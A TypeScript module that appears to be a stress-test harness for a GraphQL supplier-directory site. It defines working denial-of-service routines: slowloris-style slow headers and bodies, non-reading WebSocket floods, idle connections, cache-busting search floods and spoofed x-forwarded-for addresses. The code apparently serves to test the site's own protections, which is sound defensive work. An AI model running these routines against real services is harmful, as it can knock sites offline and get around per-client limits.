import { get } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { getIntrospectionQuery } from 'graphql'
import { WebSocket } from 'ws'

/** One connection of an attack: asks again and again until the signal. `from` is the address that a proxy tells. */
export type Attack = (site: { url: URL; from: string }, signal: AbortSignal) => Promise<void>

/** Makes each text another one, so that no cache has it. */
let number = 0
const words = ['blinds', 'curtains leeds', 'roman blinds london', 'shutters kent', 'blnds', 'best repairs near bath']

const headersFor = (from: string) => ({ 'content-type': 'application/json', 'x-forwarded-for': from })

/** Asks as quickly as it is answered, as most attackers do; nothing that is answered ends it. */
const again =
  (ask: (site: { url: URL; from: string }, signal: AbortSignal) => Promise<unknown>): Attack =>
  async (site, signal) => {
    while (!signal.aborted) await ask(site, signal).catch(() => wait(50))
  }

const posting = (body: () => object) =>
  again(async ({ url, from }, signal) => {
    const init = { method: 'POST', headers: headersFor(from), body: JSON.stringify(body()), signal }
    await (await fetch(new URL('/graphql', url), init)).arrayBuffer()
  })

const getting = (path: () => string) =>
  again(async ({ url, from }, signal) => {
    await (await fetch(new URL(path(), url), { headers: { 'x-forwarded-for': from }, signal })).arrayBuffer()
  })

/** A socket that sends as much as it is let, until it is closed; then the next. */
const overSocket = (isReading: boolean, message: () => object): Attack =>
  again(async ({ url, from }, signal) => {
    const target = new URL('/graphql', url)
    target.protocol = 'ws:'
    const socket = new WebSocket(target, 'graphql-transport-ws', { headers: { 'x-forwarded-for': from } })
    const closed = new Promise((done) => {
      socket.on('close', done)
      socket.on('error', done)
      signal.addEventListener('abort', () => done(socket.terminate()), { once: true })
    })
    socket.on('open', () => {
      socket.send(JSON.stringify({ type: 'connection_init' }))
      if (!isReading) setTimeout(() => socket.pause(), 100)
      const timer = setInterval(() => {
        for (let sent = 0; sent < 20 && socket.bufferedAmount < 1e6; sent++) socket.send(JSON.stringify(message()))
      }, 5)
      socket.on('close', () => clearInterval(timer))
    })
    await closed
    await wait(20)
  })

/** A connection on which `first` is sent, and then `next` every second: for as long as the site lets it. */
const dribbling = (first: string, next: () => string): Attack =>
  again(
    ({ url, from }, signal) =>
      new Promise<void>((done, fail) => {
        const socket = connect(Number(url.port), url.hostname, () => {
          socket.write(first && `${first}\r\nhost: ${url.host}\r\nx-forwarded-for: ${from}\r\n`)
        })
        const timer = setInterval(() => socket.write(next()), 1000)
        const leave = () => socket.destroy()
        signal.addEventListener('abort', leave, { once: true })
        socket.resume()
        socket.on('error', fail)
        socket.on('close', () => {
          clearInterval(timer)
          signal.removeEventListener('abort', leave)
          setTimeout(done, 50)
        })
      }),
  )

const search = () => `${words[number % words.length]} ${number++}`
const subscribing = (query: string) => ({ id: String(number++), type: 'subscribe', payload: { query } })

/** Attacks by name. */
export const attacks: Record<string, Attack> = {
  'similar suppliers': posting(() => ({
    query: `{ suppliers(first: 90, filter: { query: "${search()}" }) { nodes { similar(first: 1) { id } } } }`,
  })),
  searches: posting(() => ({
    query: `query ($q: String) { suppliers(first: 100, filter: { query: $q }) { totalCount extent { west } facets { services { count } } nodes { name } } }`,
    variables: { q: search() },
  })),
  maps: posting(() => ({
    query: `{ supplierMap(filter: { query: "${search()}" }, bounds: { west: -8, south: 49, east: 2, north: 60 }, zoom: 9) { latitude } }`,
  })),
  introspection: posting(() => ({ query: `${getIntrospectionQuery()} # ${number++}` })),
  'long texts': posting(() => ({
    query: `{ ${'__typename '.repeat(45)} suppliers(first: 1, filter: { query: "${search().repeat(20)}" }) { totalCount } }`,
  })),
  'new pages': getting(() => `/suppliers?query=${encodeURIComponent(search())}`),
  'every supplier': getting(() => '/api/suppliers'),
  'sockets that do not read': overSocket(false, () => ({ type: 'ping', payload: { text: 'x'.repeat(60_000) } })),
  'operations over sockets': overSocket(true, () =>
    subscribing(
      `{ suppliers(first: 100, filter: { query: "${search()}" }) { totalCount nodes { name description } } }`,
    ),
  ),
  'idle sockets': dribbling('', () => ''),
  'slow headers': dribbling('GET /suppliers HTTP/1.1', () => `x-${number++}: y\r\n`),
  'slow bodies': dribbling(
    'POST /graphql HTTP/1.1\r\ncontent-type: application/json\r\ncontent-length: 100000',
    () => '\r\n{"query": ',
  ),
  'slow readers': again(
    ({ url, from }, signal) =>
      new Promise<void>((done, fail) => {
        const request = get(
          new URL('/api/suppliers', url),
          { headers: { 'x-forwarded-for': from }, signal },
          (answer) => {
            answer.pause()
            answer.on('close', done)
          },
        )
        request.on('error', fail)
      }),
  ),
}
